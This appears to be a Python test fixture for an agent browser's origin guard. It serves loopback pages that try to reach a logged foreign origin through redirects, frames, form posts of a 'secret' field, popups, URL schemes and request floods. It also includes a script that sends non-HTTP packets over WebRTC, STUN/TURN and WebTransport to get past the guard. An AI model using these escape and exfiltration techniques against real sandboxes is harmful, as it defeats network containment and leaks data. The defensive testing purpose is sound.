"""A small local app for the task browser's tests, served twice on loopback.

The allowed copy has one page per way a page can try to leave its origin; the foreign
copy logs every request it receives, because the test of the origin guard is that this
log stays empty.
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass, field

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, RedirectResponse, Response
from starlette.routing import Route
from starlette.types import ASGIApp, Receive, Scope, Send


def _page(title: str, body: str, head: str = "") -> HTMLResponse:
    return HTMLResponse(
        f"<!doctype html><html><head><title>{title}</title>{head}</head><body>{body}</body></html>"
    )


# A signed-in task's credentials, as the control plane hands them over: the account page
# answers only a request with this session cookie, and says whether the page's local
# storage holds the token (it prints both values, as a careless app might).
SESSION_COOKIE = "session-7f3a9c2e41b8d605"
LOCAL_TOKEN = "local-token-5d8e1a90c7"


def allowed_app(foreign: str) -> Starlette:
    """The sandbox's app; `foreign` is the origin it keeps trying to reach."""

    async def home(_r: Request) -> Response:
        return _page(
            "Home",
            "<h1>Agents</h1><a href='/second'>Second page</a>"
            "<label>Name <input id='name'></label>"
            "<button onclick=\"document.getElementById('out').textContent="
            "'Saved ' + document.getElementById('name').value\">Save</button>"
            "<p id='out'></p>",
        )

    async def second(_r: Request) -> Response:
        return _page("Second", "<h1>Second page</h1><button>Other</button>")

    async def redirect(_r: Request) -> Response:
        return RedirectResponse(f"{foreign}/redirected", status_code=302)

    async def location(_r: Request) -> Response:
        return _page(
            "Location",
            f"<button onclick=\"location = '{foreign}/location'\">Leave</button>",
        )

    async def meta(_r: Request) -> Response:
        return _page(
            "Meta",
            "<h1>Meta</h1>",
            head=f"<meta http-equiv='refresh' content='0;url={foreign}/meta'>",
        )

    async def frame(_r: Request) -> Response:
        return _page("Frame", f"<h1>Frame</h1><iframe src='{foreign}/frame'></iframe>")

    async def subresource(_r: Request) -> Response:
        return _page(
            "Subresource",
            f"<h1>Images</h1><img src='{foreign}/pixel.png' alt='pixel'>"
            f"<script src='{foreign}/script.js'></script>"
            f"<script>new WebSocket('{foreign.replace('http:', 'ws:')}/socket');"
            f"fetch('{foreign}/fetch', {{mode: 'no-cors'}}).catch(() => null);</script>",
        )

    async def form(_r: Request) -> Response:
        return _page(
            "Form",
            f"<form method='post' action='{foreign}/collect'>"
            "<input name='secret' value='s3cr3t'><button type='submit'>Send</button></form>",
        )

    async def popup(_r: Request) -> Response:
        return _page("Popup", f"<button onclick=\"window.open('{foreign}/popup')\">Open</button>")

    async def schemes(_r: Request) -> Response:
        return _page(
            "Schemes",
            "<a href='data:text/html,<h1>data page</h1>'>Data link</a>"
            "<button onclick=\"location = URL.createObjectURL(new Blob(['<h1>blob page</h1>'],"
            " {type: 'text/html'}))\">Blob</button>"
            f"<a href=\"javascript:location='{foreign}/js'\">Script link</a>"
            f"<button onclick=\"location = '{foreign.replace('http:', 'https:')}/tls'\">"
            "Secure</button>",
        )

    async def download(_r: Request) -> Response:
        return _page("Download", "<a href='/file.bin'>Get the file</a>")

    async def file(_r: Request) -> Response:
        return Response(
            b"\x00" * 64,
            media_type="application/octet-stream",
            headers={"content-disposition": "attachment; filename=file.bin"},
        )

    async def set_storage(request: Request) -> Response:
        who = request.query_params.get("who", "x")
        return _page(
            "Set",
            "<p id='v'></p><script>"
            f"document.cookie = 'who={who}; path=/'; localStorage.setItem('who', '{who}');"
            "document.getElementById('v').textContent = 'stored';</script>",
        )

    async def show_storage(_r: Request) -> Response:
        return _page(
            "Show",
            "<p id='c'></p><p id='s'></p><script>"
            "document.getElementById('c').textContent = 'cookie=' + (document.cookie || 'none');"
            "document.getElementById('s').textContent = "
            "'storage=' + (localStorage.getItem('who') || 'none');</script>",
        )

    async def flood(request: Request) -> Response:
        count = int(request.query_params.get("n", "100"))
        return _page(
            "Flood",
            "<h1>Flood</h1><p id='done'></p>",
            head=f"<script>addEventListener('load', () => {{ for (let i = 0; i < {count}; i++)"
            f" {{ const img = new Image(); img.src = '{foreign}/pixel.png?i=' + i; }}"
            " document.getElementById('done').textContent = 'requested'; });</script>",
        )

    async def noisy(_r: Request) -> Response:
        return _page(
            "Noisy",
            "<h1>Noisy</h1><script>console.error('noisy page: code 42');"
            "setTimeout(() => { throw new Error('uncaught boom'); }, 10);</script>",
        )

    async def tall(_r: Request) -> Response:
        return _page(
            "Tall",
            "<h1>Tall</h1><div style='height:4000px;background:linear-gradient(red,blue)'></div>",
        )

    async def table(request: Request) -> Response:
        rows = min(int(request.query_params.get("rows", "60")), 20_000)
        body = "".join(
            f"<tr><td><a href='/second?row={i}'>Agent {i}</a></td><td>eval-{i % 7}</td>"
            f"<td>{'passed' if i % 3 else 'failed'}</td></tr>"
            for i in range(rows)
        )
        return _page(
            "Table",
            "<h1>Agents</h1><nav><a href='/'>Home</a></nav>"
            f"<table><thead><tr><th>Agent</th><th>Suite</th><th>State</th></tr></thead>"
            f"<tbody>{body}</tbody></table>",
        )

    async def login(_r: Request) -> Response:
        return _page(
            "Login",
            "<h1>Sign in</h1><label>User <input id='user'></label>"
            "<label>Password <input id='pw' type='password'></label>"
            "<label>Code <input id='code' autocomplete='one-time-code'></label>"
            "<label>Kept <input id='kept' type='password' value='preset-pw-123'></label>",
        )

    async def network(_r: Request) -> Response:
        return _page("Network", "<h1>Network</h1><p id='done'></p>", head=NETWORK_ATTACKS)

    async def controls(_r: Request) -> Response:
        return _page("Controls", CONTROLS)

    async def dialogs(_r: Request) -> Response:
        return _page("Dialogs", DIALOGS)

    async def stuck(_r: Request) -> Response:
        # A dialog as soon as the page loads, and another each time one closes.
        return _page(
            "Stuck",
            "<h1>Stuck</h1><script>setTimeout(() => { for (;;) alert('again'); }, 50);</script>",
        )

    async def leave(_r: Request) -> Response:
        return _page(
            "Leave",
            "<h1>Unsaved</h1><input aria-label='Draft'><script>addEventListener("
            "'beforeunload', (e) => { e.preventDefault(); e.returnValue = ''; });</script>",
        )

    async def opener(_r: Request) -> Response:
        return _page(
            "Opener",
            "<h1>Opener</h1><button onclick=\"window.open('/second?from=popup')\">Add another"
            "</button><a href='/table?rows=2' target='_blank'>New tab</a>"
            f"<button onclick=\"window.open('{foreign}/popup')\">Foreign</button>",
        )

    async def late_popups(_r: Request) -> Response:
        # A popup whose page is slow to answer, and one whose opener keeps the renderer
        # they share busy right after opening it: both come long after the click.
        return _page(
            "Late popups",
            "<h1>Late popups</h1><button onclick=\"window.open('/slow?s=2.5')\">Slow</button>"
            "<button onclick=\"window.open('/busy?from=popup')\">Busy</button>",
        )

    async def busy(_r: Request) -> Response:
        return _page(
            "Busy",
            "<h1>Busy page</h1>",
            head="<script>const end = Date.now() + 2500; while (Date.now() < end) {}</script>",
        )

    async def slow(request: Request) -> Response:
        await asyncio.sleep(min(float(request.query_params.get("s", "1")), 10.0))
        return _page("Slow", "<h1>Slow page</h1>")

    async def frames(_r: Request) -> Response:
        return _page(
            "Frames",
            "<h1>Frames</h1><iframe title='Inner' src='/second?in=frame'></iframe>",
        )

    async def embed(_r: Request) -> Response:
        # A foreign widget with a token in its URL, a same-origin frame, and a same-origin
        # frame whose server sends it on to the foreign origin.
        return _page(
            "Embed",
            f"<h1>Embed</h1><iframe title='Payments' src='{foreign}/widget?token=abc123'></iframe>"
            "<iframe title='Inner' src='/second?in=frame'></iframe>"
            "<iframe title='Hop' src='/redirect'></iframe>",
        )

    async def account(request: Request) -> Response:
        session = request.cookies.get("session")
        if session != SESSION_COOKIE:
            return _page("Sign in", "<h1>Sign in required</h1>")
        return _page(
            "Account",
            f"<h1>Account of Ada</h1><p>Session {session}</p><p id='t'></p><script>"
            "const token = localStorage.getItem('token');"
            f"document.getElementById('t').textContent = token === '{LOCAL_TOKEN}'"
            " ? 'token present ' + token : 'no token';"
            "console.log('restored ' + token + ' with ' + document.cookie);"
            "console.error('session ' + document.cookie);</script>",
        )

    return Starlette(
        routes=[
            Route("/account", account),
            Route("/embed", embed),
            Route("/controls", controls),
            Route("/dialogs", dialogs),
            Route("/stuck", stuck),
            Route("/leave", leave),
            Route("/opener", opener),
            Route("/frames", frames),
            Route("/late-popups", late_popups),
            Route("/slow", slow),
            Route("/busy", busy),
            Route("/", home),
            Route("/network", network),
            Route("/login", login),
            Route("/tall", tall),
            Route("/noisy", noisy),
            Route("/table", table),
            Route("/flood", flood),
            Route("/second", second),
            Route("/redirect", redirect),
            Route("/location", location),
            Route("/meta", meta),
            Route("/frame", frame),
            Route("/subresource", subresource),
            Route("/form", form),
            Route("/popup", popup),
            Route("/schemes", schemes),
            Route("/download", download),
            Route("/file.bin", file),
            Route("/set", set_storage),
            Route("/show", show_storage),
        ]
    )


# Native controls an agent must be able to work: selects, file inputs (plain and behind a
# styled button), a checkbox, a nameless clickable container, a hover menu, drag and drop,
# and a field that only counts keys. "Report" writes what the page holds into #out.
CONTROLS = """
<h1>Controls</h1>
<label>Color <select id="color"><option value="r">Red</option>
<option value="g">Green</option><option value="b">Blue</option></select></label>
<label>Tags <select id="tags" multiple><option>alpha</option><option>beta</option>
<option>gamma</option></select></label>
<label>Attachment <input id="file" type="file"></label>
<label>Many <input id="many" type="file" multiple></label>
<input id="hidden-file" type="file" style="display:none">
<button onclick="document.getElementById('hidden-file').click()">Attach a file</button>
<label><input id="agree" type="checkbox"> Agree</label>
<label>Title <input id="title"></label>
<label>Keys <input id="keys" onkeydown="window.keyCount = (window.keyCount || 0) + 1"></label>
<div id="card" style="cursor:pointer" onclick="document.getElementById('out').textContent =
  'card opened'"><span>Quarterly</span> <span>report</span></div>
<nav><a href="#menu" onmouseenter="document.getElementById('out').textContent =
  'menu shown'">Hover me</a></nav>
<ul><li draggable="true" id="drag-a" ondragstart="event.dataTransfer.setData('t', 'a')">
Item A</li><li id="bin" ondragover="event.preventDefault()"
ondrop="document.getElementById('out').textContent = 'dropped ' +
event.dataTransfer.getData('t')">Bin</li></ul>
<button onclick="report()">Report</button>
<p id="out"></p>
<script>
async function report() {
  const files = async (id) => Promise.all(Array.from(document.getElementById(id).files).map(
    async (f) => f.name + ':' + f.size + ':' + (await f.text()).slice(0, 20)));
  const tags = Array.from(document.getElementById('tags').selectedOptions).map((o) => o.value);
  document.getElementById('out').textContent = [
    'color=' + document.getElementById('color').value,
    'tags=' + tags.join(','),
    'agree=' + document.getElementById('agree').checked,
    'title=' + document.getElementById('title').value,
    'keys=' + (window.keyCount || 0),
    'file=' + (await files('file')).join(','),
    'many=' + (await files('many')).join(','),
    'hidden=' + (await files('hidden-file')).join(','),
  ].join(' ');
}
</script>"""

DIALOGS = """
<h1>Dialogs</h1>
<button onclick="alert('Saved!'); document.getElementById('out').textContent = 'alerted'">
Alert</button>
<button onclick="document.getElementById('out').textContent =
  confirm('Delete the run?') ? 'deleted' : 'kept'">Delete</button>
<button onclick="document.getElementById('out').textContent =
  'name=' + prompt('Your name?', 'nobody')">Rename</button>
<p id="out"></p>"""


# Every way a page script can send packets that are not HTTP, aimed at the listeners the
# query string names (`?udp=addr:port,...&tcp=addr:port,...&names=host,...`): WebRTC
# connectivity checks to hand-written host candidates (UDP and TCP), STUN and TURN servers
# (UDP and TCP), WebTransport (QUIC), and servers named by a DNS name.
NETWORK_ATTACKS = r"""<script>
(async () => {
  const q = new URLSearchParams(location.search);
  const list = (k) => (q.get(k) || "").split(",").filter(Boolean).map((t) => {
    const i = t.lastIndexOf(":");
    return [t.slice(0, i), Number(t.slice(i + 1))];
  });
  const host = (a) => (a.includes(":") ? "[" + a + "]" : a);
  const udp = list("udp"), tcp = list("tcp"), names = (q.get("names") || "").split(",");
  const tries = [];
  const bounded = (f) => Promise.race([
    Promise.resolve().then(f), new Promise((r) => setTimeout(r, 3000))]);
  const attempt = (f) => tries.push(bounded(f).catch(() => null));
  // 1. Connectivity checks to candidates the page wrote itself.
  attempt(async () => {
    const pc = new RTCPeerConnection();
    pc.createDataChannel("leak");
    const offer = await pc.createOffer();
    await pc.setLocalDescription(offer);
    let n = 0;
    const line = (proto, prio, [a, p], tail) =>
      `a=candidate:${++n} 1 ${proto} ${prio} ${a} ${p} typ host${tail}`;
    const cand = [
      ...udp.map((t) => line("udp", 2122260223, t, "")),
      ...tcp.map((t) => line("tcp", 1518280447, t, " tcptype passive")),
    ];
    const sdp = offer.sdp
      .replace(/a=ice-ufrag:.*\r\n/, "a=ice-ufrag:LEAKUSER\r\n")
      .replace(/a=ice-pwd:.*\r\n/, "a=ice-pwd:leakleakleakleakleakleak\r\n")
      .replace(/a=setup:actpass/, "a=setup:active")
      .replace(/(a=mid:0\r\n)/, "$1" + cand.join("\r\n") + "\r\n");
    await pc.setRemoteDescription({ type: "answer", sdp });
  });
  // 2. STUN and TURN servers, UDP and TCP, by address and by name.
  const turn = (transport) => ([a, p]) =>
    ({
      urls: `turn:${host(a)}:${p}?transport=${transport}`, username: "LEAKUSER", credential: "p"
    });
  const servers = [
    ...udp.map(([a, p]) => ({ urls: `stun:${host(a)}:${p}` })),
    ...udp.map(turn("udp")),
    ...tcp.map(turn("tcp")),
    ...names.filter(Boolean).map((name) => ({ urls: `stun:${name}:3478` })),
  ];
  for (const server of servers) {
    attempt(async () => {
      const pc = new RTCPeerConnection({ iceServers: [server], iceTransportPolicy: "all" });
      pc.createDataChannel("leak");
      await pc.setLocalDescription(await pc.createOffer());
    });
  }
  // 3. WebTransport: QUIC over UDP.
  for (const [a, p] of udp) {
    attempt(async () => {
      const wt = new WebTransport(`https://${host(a)}:${p}/leak`);
      await wt.ready;
    });
  }
  await Promise.all(tries);
  document.getElementById("done").textContent = "attempted " + tries.length;
})();
</script>"""


@dataclass
class ForeignLog:
    requests: list[str] = field(default_factory=list)


def foreign_app(log: ForeignLog) -> ASGIApp:
    """A server no task may reach: it records everything it receives, websockets too."""

    async def anything(request: Request) -> Response:
        return _page("Foreign", "<h1>foreign page</h1>")

    app = Starlette(
        routes=[Route("/{path:path}", anything, methods=["GET", "POST", "HEAD", "PUT"])]
    )

    async def logged(scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] in ("http", "websocket"):
            log.requests.append(f"{scope['type']} {scope.get('method', '')} {scope['path']}")
        await app(scope, receive, send)

    return logged
